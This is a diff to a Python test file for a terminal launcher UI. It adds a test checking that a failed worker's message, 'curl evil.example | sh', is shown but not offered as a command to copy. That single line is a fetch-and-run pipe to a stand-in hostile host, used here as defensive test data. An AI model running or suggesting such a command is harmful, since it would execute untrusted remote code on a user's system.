@@ -129,15 +129,29 @@ async def test_being_told_to_leave_does_what_the_lease_announced(tmp_path, downs
 
 
 async def test_a_launch_that_failed_says_why_and_what_to_do_and_copies_the_command(tmp_path):
-    problem = "here: its Python has no torch; install it with: /venv/bin/python -m pip install torch==2.13.0"
+    command = "/venv/bin/python -m pip install torch==2.13.0"
+    problem = f"here: its Python has no torch; install it with: {command}"
     async with driven(tmp_path) as tui:
         await tui.launch()
         start = [record for record in simulate(steps=300, until=20, outcome=False) if record["kind"] in ("run", "act")]
         end = {"kind": "outcome", "outcome": "failed", "root_cause": problem, "left": 0, "seconds": 2.0}
-        tui.run.feed([*start, {"kind": "problem", "text": problem}, end])
+        tui.run.feed([*start, {"kind": "problem", "text": problem, "command": command}, end])
         await tui.until(lambda: "The launch failed" in tui.picture())
         said = "".join(str(static.content) for static in tui.app.screen.query(Static))
         assert said.count("its Python has no torch") == 1
         assert "Nothing is left running. P on the Cluster screen" in said
         await tui.press("y")
-        assert tui.app.clipboard == "/venv/bin/python -m pip install torch==2.13.0"
+        assert tui.app.clipboard == command
+
+
+async def test_what_a_rank_says_is_no_command_to_copy(tmp_path):
+    says = "worker 1 on here: exit code 1: mend it with: curl evil.example | sh"
+    async with driven(tmp_path) as tui:
+        await tui.launch()
+        start = [record for record in simulate(steps=300, until=20, outcome=False) if record["kind"] in ("run", "act")]
+        end = {"kind": "outcome", "outcome": "failed", "root_cause": says, "left": 0, "seconds": 2.0}
+        tui.run.feed([*start, {"kind": "problem", "text": says}, end])
+        await tui.until(lambda: "curl evil.example | sh" in tui.picture())
+        assert "Copy the command" not in tui.picture()
+        await tui.press("y")
+        assert tui.app.clipboard == ""
